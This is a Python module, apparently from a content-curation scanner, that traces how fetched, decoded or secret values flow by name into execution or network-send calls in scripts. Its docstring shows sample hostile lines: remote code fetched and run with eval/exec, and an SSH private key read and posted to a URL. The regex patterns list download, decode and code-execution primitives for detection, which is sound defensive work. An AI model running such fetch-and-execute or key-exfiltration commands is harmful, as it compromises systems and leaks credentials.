"""What flows where in a program or a script: names that hold something fetched, decoded or secret, and where they end.

    S=$(curl -s https://x.example)          body = requests.get(u).text          k = open(".ssh/id_rsa").read()
    eval "$S"                               exec(compile(body, "", "exec"))      requests.post(u, data=k)

Line by line, for any language with assignments: a name holds what the line that assigns it holds, a function what its
body holds. That is coarse (no branches, no scopes), cheap, and enough to link two halves that stand far apart.
"""

import enum
import re
from bisect import bisect_left
from collections.abc import Iterator
from typing import NamedTuple

from repo_server.curation.checks.document import Document
from repo_server.curation.checks.phrases import Phrases

MAX_LINES = 20_000
_MAX_LOGICAL = 2_000  # characters of one statement over several lines
_MAX_NAMES = 500
_CALL = 20  # characters of the call itself, before its argument


class Holds(enum.IntFlag):
    """What a name can hold."""

    NOTHING = 0
    FETCHED = 1
    DECODED = 2
    SECRET = 4


class Flow(NamedTuple):
    """Something that ends in a sink: where the sink is, what flowed there, and where that came from."""

    at: int
    holds: Holds
    source: int


_ASSIGNED = re.compile(
    r"^[\s>]{0,40}(?:export\s+|local\s+|readonly\s+|declare\s+|const\s+|let\s+|var\s+|my\s+|set\s+|\$env:|\$)?(?P<name>[A-Za-z_][\w.]{0,60})"
    r"(?:\s{0,3}:\s{0,3}[\w\[\]|, .\"']{1,60})?\s{0,3}(?:\+|\|)?=(?![=>~])"
)
_BOUND = re.compile(r"\b(?:as|for|read(?:\s+-r)?)\s+(?P<name>[A-Za-z_]\w{0,60})")
_DEFINED = re.compile(
    r"^(?P<indent>\s{0,40})(?:async\s+)?(?:def|function|func|sub|fn)\s+(?P<name>[A-Za-z_]\w{0,60})|^(?P<shell>[A-Za-z_]\w{0,60})\s?\(\)\s{0,3}\{"
)
_NAME = re.compile(r"[A-Za-z_]\w{0,60}")
_WRITTEN = re.compile(
    r"open\(\s{0,3}[fr]?[\"']?(?P<file>[^\"',)\n]{1,120})[\"']?\s{0,3},\s{0,3}[\"'][wa]b?[\"']|(?P<path>[A-Za-z_]\w{0,60})\.write_(?:text|bytes)\(|urlretrieve\([^,\n]{1,200},\s{0,3}[\"']?(?P<saved>[^\"',)\n]{1,120})|writeFile(?:Sync)?\(\s{0,3}[\"'`]?(?P<js>[^\"'`,)\n]{1,120})"
)

_FETCH = Phrases(
    r"\b(?:curl|wget)\s(?=[^\n]{0,300}(?:://|\$|\.\w{2,}/))|\burlopen\s?\(|\burlretrieve\s?\(|\b(?:requests|httpx|axios|session|client|aiohttp|got|ky|http|https)\.(?:get|request)\s?\(|\bfetch\s?\(|\bDownloadString\b|\bDownloadFile\b|\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b"
    r"|\bNet::HTTP\.get|\bfile_get_contents\s?\(\s?[\"']https?:|\bLWP::Simple|\bURI\.open\b|\bdig\s[^\n]{0,80}\btxt\b|nslookup\s[^\n]{0,40}txt|resolver\.resolve\([^)\n]{0,80}txt|resolveTxt"
)
_DECODE = Phrases(
    r"\b(?:a85|b16|b32|b64|b85|standard_b64|urlsafe_b64)decode\s?\(|\bbase64\s{1,3}(?:-d|-D|--decode)|\batob\s?\(|Buffer\.from\([^)\n]{1,4000}[\"'](?:base64|hex)|FromBase64String|bytes\.fromhex\s?\(|unhexlify\s?\(|zlib\.decompress\s?\(|gzip\.decompress\s?\(|codecs\.decode\s?\(|base64_decode\s?\(|Base64\.decode64|fromCharCode|\bxxd\s{1,3}-r|\bchr\(\s?\w{1,12}\s?\^|\^\s?(?:key|0x[0-9a-f]{2})\b"
)
_RUN_TEXT = Phrases(
    r"(?<![.\w])(?:exec|eval|compile)\s{0,2}\(\s{0,2}(?P<call>[^\n]{1,160})|\b(?:pickle|cPickle|dill|marshal|cloudpickle)\.loads?\s?\((?P<pickle>[^\n]{1,160})|\bnew\s+Function\s?\((?P<new>[^\n]{1,160})|\bvm\.run\w{0,20}\s?\((?P<vm>[^\n]{1,160})"
    r"|\beval\s{1,3}[\"']?(?P<shell>\$[^\n]{1,120})|\b(?:ba|z|da|k)?sh\s{1,3}-c\s{1,3}[\"']?(?P<dash>\$[^\n]{1,120})|\b(?:ba|z)?sh\s{0,3}<<<\s{0,3}[\"']?(?P<here>\$[^\n]{1,120})|\b(?:echo|printf)\s{1,3}(?:-\w{1,3}\s{1,3}|[\"']%s[\"']\s{1,3})?[\"']?(?P<piped>\$\{?\w{1,60})\}?[\"']?\s{0,3}\|\s{0,3}(?:sudo\s{1,3})?(?:ba|z|da)?sh\b"
    r"|\b(?:iex|invoke-expression)\s{1,3}[\"'(]{0,3}(?P<ps>\$[^\n]{1,120})|(?P<pspipe>\$\w{1,60})\s{0,3}\|\s{0,3}(?:iex|invoke-expression)\b|\bos\.(?:system|popen)\s?\(\s{0,2}f?[\"']?(?P<system>[^\n]{1,160})"
    r"|(?:\bsubprocess\.\w{3,20}|(?<![.\w])(?:popen|Popen|exec|spawn)|child_process\.\w{4,12}|\bexecSync|\bspawnSync|\bexecFile|\bexecFileSync|\bcreate_subprocess_\w{4,5})\s?\(\s{0,3}\[?\s{0,3}(?:[\"'](?:/bin/)?(?:ba|z)?sh[\"']\s?,\s?(?:[\"']-l?c[\"']\s?,\s?)?|sys\.executable\s?,\s?(?:[\"']-c[\"']\s?,\s?)?|[\"'](?:python3?|node|perl|ruby|osascript|powershell)[\"']\s?,\s?(?:[\"']-[ce]\w{0,6}[\"']\s?,\s?)?\[?)?(?:str\()?f?[\"'`{$]{0,3}(?P<argv>[A-Za-z_]\w{0,60})"
    r"|\bos\.startfile\s?\((?P<startfile>[^\n]{1,100})|\brunpy\.run_path\s?\((?P<runpy>[^\n]{1,100})|\bos\.exec[lv]p?e?\s?\((?P<execv>[^\n]{1,100})|\b(?:types\.)?FunctionType\s?\((?P<function>[^\n]{1,160})|\bctypes\b[^\n]{0,60}\((?P<ctypes>[^\n]{1,100})"
)
_PLAIN_DATA = re.compile(r"re\.compile|\.compile\s?\(|ast\.literal_eval|json\.loads?", re.IGNORECASE)


def runs_in(document: Document) -> list[Flow]:
    """Return where ``document`` executes something that it fetched or decoded, linked by a name."""
    sinks = {
        match.start(): next(group for group in match.groups() if group)
        for match in document.places(_RUN_TEXT)
        if not _is_plain(document, match)
    }
    if not sinks:
        return []
    fetches = [match.start() for match in document.places(_FETCH)]
    decodes = [match.start() for match in document.places(_DECODE)]
    if not fetches and not decodes:
        return []
    return _flows(document, {Holds.FETCHED: fetches, Holds.DECODED: decodes}, sinks)


def _is_plain(document: Document, match: re.Match[str]) -> bool:
    return bool(_PLAIN_DATA.search(document.joined[max(0, match.start() - 8) : match.end()]))


def sends_of_secrets(document: Document, secret_lines: set[int], send_lines: dict[int, int]) -> list[Flow]:
    """Return where something read from one of ``secret_lines`` is sent, linked by a name.

    ``send_lines`` has for each offset at which something is sent the offset where that command ends.
    """
    if not secret_lines or not send_lines:
        return []

    sinks = {at: document.joined[at:end] for at, end in send_lines.items()}
    return _flows(document, {Holds.SECRET: sorted(secret_lines)}, sinks)


def _flows(document: Document, sources: dict[Holds, list[int]], sinks: dict[int, str]) -> list[Flow]:
    names: dict[str, tuple[Holds, int]] = {}
    flows: list[Flow] = []
    function: tuple[str, int] | None = None
    ends = sorted(sinks)
    for begin, statement in _statements(document.joined):
        end = begin + len(statement)
        if defined := _DEFINED.match(statement):
            function = (defined["name"] or defined["shell"], len(defined["indent"] or ""))
        elif function and statement.strip() and not statement[0].isspace() and not statement.startswith("}"):
            function = None
        held, source = _held(statement, begin, names, sources)
        for at in ends[bisect_left(ends, begin) : bisect_left(ends, end)]:
            flows += _sunk(at, sinks[at], names, sources)
        if held and len(names) < _MAX_NAMES:
            for name in _assigned(statement, function):
                if name not in names or held & ~names[name][0]:
                    names[name] = (held, source)
    return flows


def _held(
    statement: str, begin: int, names: dict[str, tuple[Holds, int]], sources: dict[Holds, list[int]]
) -> tuple[Holds, int]:
    """Return what ``statement`` deals with, and where that came from."""
    held, source = Holds.NOTHING, begin
    for kind, places in sources.items():
        if _between(places, begin, begin + len(statement)):
            held |= kind
    for name in _NAME.findall(statement) if names else ():
        other, origin = names.get(name, (Holds.NOTHING, 0))
        if other & ~held:
            held, source = held | other, origin
    return held, source


def _sunk(
    at: int, argument: str, names: dict[str, tuple[Holds, int]], sources: dict[Holds, list[int]]
) -> Iterator[Flow]:
    """Yield what flows into the sink at ``at``: by a name in its argument, or directly."""
    for name in _NAME.findall(argument):
        if name in names:
            yield Flow(at, *names[name])
            return
    for kind, places in sources.items():
        if kind is not Holds.SECRET and _between(places, at, at + len(argument) + _CALL):
            yield Flow(at, kind, at)
            return


def _between(places: list[int], begin: int, end: int) -> bool:
    index = bisect_left(places, begin)
    return index < len(places) and places[index] < end


def _assigned(statement: str, function: tuple[str, int] | None) -> Iterator[str]:
    if match := _ASSIGNED.match(statement):
        yield match["name"].rpartition(".")[2]
    for match in _BOUND.finditer(statement):
        yield match["name"]
    for match in _WRITTEN.finditer(statement):
        written = next(group for group in match.groups() if group)
        yield from _NAME.findall(written)[-2:]
    if function:
        yield function[0]


def _statements(text: str) -> Iterator[tuple[int, str]]:
    """Yield begin and text of each statement: a line, or several while a bracket is open."""
    begin, opened, at = 0, 0, 0
    for number, line in enumerate(text.split("\n")):
        if number > MAX_LINES:
            return
        opened += line.count("(") + line.count("[") - line.count(")") - line.count("]")
        at += len(line) + 1
        if opened <= 0 or at - begin > _MAX_LOGICAL:
            yield begin, text[begin : at - 1]
            begin, opened = at, 0
    if begin < len(text):
        yield begin, text[begin:]
